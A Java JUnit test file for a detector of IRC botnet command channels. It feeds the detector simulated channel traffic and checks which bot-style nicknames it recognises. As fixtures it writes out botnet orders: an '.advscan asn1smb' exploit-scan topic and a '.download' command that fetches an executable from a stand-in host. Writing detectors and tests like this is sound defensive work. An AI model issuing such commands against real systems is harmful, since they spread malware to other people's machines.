package earshot.detect.bot;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import earshot.detect.Scene;
import earshot.detect.Tuning;
import earshot.event.Account;
import earshot.event.ImEvent.Message;
import earshot.event.ImEvent.Room;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CommandChannelTest {
    private final Scene scene = new Scene(new CommandChannel(Tuning.DEFAULT));

    private void room(double second, String nick, Room.Action action, String text) {
        scene.happens(new Room(scene.seen(second, "irc", "irc"), "#x0r", Account.of(nick), action, text));
    }

    private void says(double second, String nick, String text) {
        scene.happens(Message.from(scene.seen(second, "irc", "irc"), Account.of(nick))
                .room("#x0r")
                .text(text)
                .build());
    }

    @Test
    void madeNamesAndATopicThatIsAnOrder() {
        room(0, "boss", Room.Action.TOPIC, ".advscan asn1smb 150 5 0 -r");
        for (int i = 0; i < 3; i++) room(i, "[USA|XP|P|1234" + i + "]", Room.Action.JOINED, "");
        assertEquals(List.of("bot-command-channel"), scene.rules());
        assertTrue(scene.end().getFirst().explanation().contains("advscan"));
    }

    @Test
    void ordersThatSeveralReportOn() {
        says(0, "boss", ".login secret -s");
        says(1, "boss", ".download http://x.example/a.exe c:\\a.exe 1");
        for (int i = 0; i < 3; i++) {
            room(0, "XP-8346" + i, Room.Action.PRESENT, "");
            says(2 + i, "XP-8346" + i, "[DOWNLOAD]: Downloaded 17.5 KB");
        }
        assertTrue(scene.end().getFirst().attack().contains("T1105"));
    }

    /// A help channel: guests, and a bot that obeys words with a character before them.
    @Test
    void aHelpChannel() {
        room(0, "chan", Room.Action.TOPIC, "!help for help | rules: http://x.example");
        for (int i = 0; i < 30; i++) room(i, "Guest-1234" + i, Room.Action.JOINED, "");
        says(40, "ann", "!seen bob");
        says(41, "bot", "[INFO]: bob was here yesterday");
        says(42, "ann", "!update");
        assertEquals(List.of(), scene.rules());
    }

    @Test
    void oddNamesAlone() {
        for (int i = 0; i < 10; i++) room(i, "XP-8346" + i, Room.Action.JOINED, "");
        assertEquals(List.of(), scene.rules());
    }

    @ParameterizedTest
    @ValueSource(strings = {"[USA|XP|P|12345]", "USA|0123456", "XP-83461", "rBot-4712"})
    void made(String nick) {
        assertTrue(MadeName.is(nick));
    }

    @ParameterizedTest
    @ValueSource(strings = {"ann", "ann-2", "guest-12345", "john1984", "mib_48213", "[away]bob", "12345", "a|b"})
    void chosen(String nick) {
        assertFalse(MadeName.is(nick));
    }
}
